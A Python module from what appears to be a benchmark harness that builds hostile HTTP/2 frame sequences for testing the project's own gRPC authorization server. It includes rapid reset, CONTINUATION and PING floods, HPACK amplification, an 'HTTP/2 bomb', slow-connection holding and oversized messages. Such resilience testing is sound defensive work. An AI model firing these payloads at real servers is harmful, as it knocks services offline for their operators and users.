"""The attacks of `bench attack`: what a hostile peer sends on each of its connections, by the row that it belongs to.

The frames are those of the tests' client of raw frames; here they come as fast as one peer can send them, for seconds.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass

from hpack import Encoder

from bench.questions import ALLOWED, EXT_AUTHZ, check_request
from tests.fix_native import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST,
    SETTINGS,
    WINDOW,
    call_headers,
    frame,
    message,
)

HELLO = PREFACE + frame(SETTINGS) + frame(SETTINGS, ACK)
ZERO_WINDOW = PREFACE + frame(SETTINGS, payload=struct.pack(">HI", 4, 0)) + frame(SETTINGS, ACK)
QUESTION = check_request(ALLOWED)
MANY = 2000
END = END_HEADERS | END_STREAM
RESET = struct.pack(">I", CANCEL)
HELD = 200  # connections that an attack keeps open; a door lets one peer have 256
FRAME_BYTES = 16384


@dataclass(frozen=True)
class Attack:
    """`data` is sent on a connection; then it is read to its end and the next one made.

    With `held` so many are kept open instead, and `drip` is sent on each of them every second. With `key_updates` the
    connection is mutual TLS of a peer that is let in, and so many follow `data`.
    """

    row: str
    data: bytes
    held: int = 0
    drip: bytes = b""
    key_updates: int = 0


class Peer:
    """Makes the frames of one connection, with the state of its header compression."""

    def __init__(self) -> None:
        self._encoder = Encoder()

    def block(self, **changes: str) -> bytes:
        return bytes(self._encoder.encode(call_headers(EXT_AUTHZ, **changes), huffman=False))

    def headers(self, stream: int, flags: int = END_HEADERS) -> bytes:
        return frame(HEADERS, flags, stream, self.block())

    def request(self, stream: int, body: bytes = message(QUESTION), **changes: str) -> bytes:
        """One whole call."""
        parts = [body[at : at + FRAME_BYTES] for at in range(0, len(body), FRAME_BYTES)] or [b""]
        data = [frame(DATA, END_STREAM if part is parts[-1] else 0, stream, part) for part in parts]
        return frame(HEADERS, END_HEADERS, stream, self.block(**changes)) + b"".join(data)


def calls(each: Callable[[Peer, int], bytes], count: int = MANY, hello: bytes = HELLO) -> bytes:
    """A connection's worth: `count` times what `each` makes for a stream of its own."""
    peer = Peer()
    return hello + b"".join(each(peer, 2 * number + 1) for number in range(count))


def _varint(n: int) -> bytes:
    """The rest of an HPACK integer, seven bits at a time (RFC 7541 section 5.1)."""
    out = b""
    while n >= 128:
        out += bytes((n & 127 | 128,))
        n >>= 7
    return out + bytes((n,))


def _split(stream: int, block: bytes) -> bytes:
    """A header block in as many frames as it needs."""
    parts = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    last = len(parts) - 1
    made = frame(HEADERS, END_STREAM | (END_HEADERS if last == 0 else 0), stream, parts[0])
    return made + b"".join(
        frame(CONTINUATION, END_HEADERS if at == last else 0, stream, part) for at, part in enumerate(parts) if at
    )


def _amplified(value: int, count: int) -> Callable[[Peer, int], bytes]:
    """One long entry of the dynamic table, named `count` times by one byte each."""

    def each(peer: Peer, stream: int) -> bytes:
        return _split(stream, peer.block() + b"\x40\x01x\x7f" + _varint(value - 127) + b"v" * value + b"\xbe" * count)

    return each


def _large(size: int) -> Callable[[Peer, int], bytes]:
    def each(peer: Peer, stream: int) -> bytes:
        return _split(stream, peer.block() + b"\x00\x01x\x7f" + _varint(size - 127) + b"v" * size)

    return each


def _provoked(after: Callable[[int], bytes], *, whole: bool = True) -> bytes:
    """Calls followed by a frame that makes the server reset their stream."""
    return calls(lambda peer, i: (peer.request(i) if whole else peer.headers(i)) + after(i))


def _window(step: int) -> Callable[[int], bytes]:
    return lambda stream: frame(WINDOW, 0, stream, struct.pack(">I", step))


def _illegal(peer: Peer, stream: int) -> bytes:
    block = peer.block() + b"\x00\x04x-nl\x03a\nb"
    return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message(QUESTION))


def _data_after_reset(peer: Peer, stream: int) -> bytes:
    return peer.headers(stream) + frame(RST, 0, stream, RESET) + frame(DATA, 0, stream, b"x")


def _on(stream: int) -> bytes:
    """What a PRIORITY frame carries: it depends on this stream."""
    return struct.pack(">IB", stream, 1)


def _nested(depth: int) -> bytes:
    """A protobuf message in a message in a message."""
    raw = b""
    for _ in range(depth):
        raw = b"\x0a" + _varint(len(raw)) + raw
    return raw


ATTACKS: dict[str, Attack] = {
    "rapid_reset": Attack("H2-01", calls(lambda peer, i: peer.request(i) + frame(RST, 0, i, RESET))),
    "reset_by_window_zero": Attack("H2-02", _provoked(_window(0))),
    "reset_by_window_overflow": Attack("H2-02", _provoked(_window(0x7FFFFFFF), whole=False)),
    "reset_by_data_after_end": Attack("H2-02", _provoked(lambda i: frame(DATA, END_STREAM, i, b"x"))),
    "reset_by_headers_after_end": Attack("H2-02", calls(lambda p, i: p.request(i) + p.headers(i, END))),
    "reset_by_priority_of_itself": Attack("H2-02", _provoked(lambda i: frame(PRIORITY, 0, i, _on(i)))),
    "reset_by_short_priority": Attack("H2-02", _provoked(lambda i: frame(PRIORITY, 0, i, b"xxx"))),
    "continuation_flood": Attack("H2-03", HELLO + Peer().headers(1, 0) + frame(CONTINUATION, 0, 1, b"\0" * 1024) * 400),
    "empty_continuation_flood": Attack("H2-03", HELLO + Peer().headers(1, 0) + frame(CONTINUATION, 0, 1) * 10_000),
    "stream_flood": Attack("H2-04", calls(lambda peer, i: peer.headers(i), 5000)),
    "data_on_reset_streams": Attack("H2-05", calls(_data_after_reset)),
    "ping_flood": Attack("H2-06", HELLO + frame(PING, 0, 0, b"12345678") * 5000),
    "settings_flood": Attack("H2-06", HELLO + frame(SETTINGS) * 5000),
    "priority_flood": Attack("H2-06", HELLO + frame(PRIORITY, 0, 3, _on(0)) * 5000),
    "window_flood": Attack("H2-06", HELLO + frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 5000),
    "key_update_flood": Attack("H2-06", HELLO, key_updates=5000),
    "unknown_frame_flood": Attack("H2-06", HELLO + frame(0xEE, 0, 0, b"x") * 5000),
    "empty_data_flood": Attack("H2-06", HELLO + Peer().headers(1) + frame(DATA, 0, 1) * 5000),
    "hpack_amplification": Attack("H2-07", calls(_amplified(200, 12_000), 50)),
    "http2_bomb": Attack(
        "H2-08", calls(_amplified(200, 12_000), 45, ZERO_WINDOW), held=16, drip=_window(1)(1)
    ),
    "broken_hpack": Attack("H2-09", HELLO + frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\x80\x7f")),
    "large_headers": Attack("H2-10", calls(_large(60_000), 100)),
    "settings_unacknowledged": Attack("H2-11", PREFACE + frame(SETTINGS), held=HELD),
    "slow_preface": Attack("H2-12", PREFACE[:10], held=HELD),
    "slow_headers": Attack("H2-12", HELLO + Peer().headers(1, 0)[:20], held=HELD, drip=b"\0"),
    "slow_bodies": Attack("H2-12", calls(lambda p, i: p.headers(i) + frame(DATA, 0, i, b"\0"), 100), held=HELD),
    "answers_not_taken": Attack("H2-12", calls(lambda peer, i: peer.request(i), 250, ZERO_WINDOW), held=50),
    "connection_churn": Attack("H2-13", b""),
    "idle_connections": Attack("H2-13", HELLO, held=HELD),
    "cut_in_the_middle": Attack("H2-14", HELLO + Peer().request(1)[:-1]),
    "frame_of_16_mib": Attack("H2-15", HELLO + frame(DATA, 0, 1, b"x" * 20_000, length=0xFFFFFF)),
    "message_of_4_gib": Attack("H2-16", calls(lambda p, i: p.request(i, message(b"x", 0, 0xFFFFFFFF)))),
    "compressed": Attack("H2-17", calls(lambda peer, i: peer.request(i, message(QUESTION, 1)))),
    "two_messages": Attack("H2-18", calls(lambda peer, i: peer.request(i, message(QUESTION) * 2))),
    "unknown_paths": Attack("H2-20", calls(lambda peer, i: peer.request(i, p_path="//x.Y/Z"))),
    "illegal_headers": Attack("H2-21", calls(_illegal)),
    "no_time": Attack("H2-22", calls(lambda peer, i: peer.request(i, grpc_timeout="1n"))),
    "gone_before_the_answer": Attack("H2-23", calls(lambda peer, i: peer.request(i), 50)),
    "nested_messages": Attack("H2-28", calls(lambda peer, i: peer.request(i, message(_nested(5000))), 100)),
}  # fmt: skip
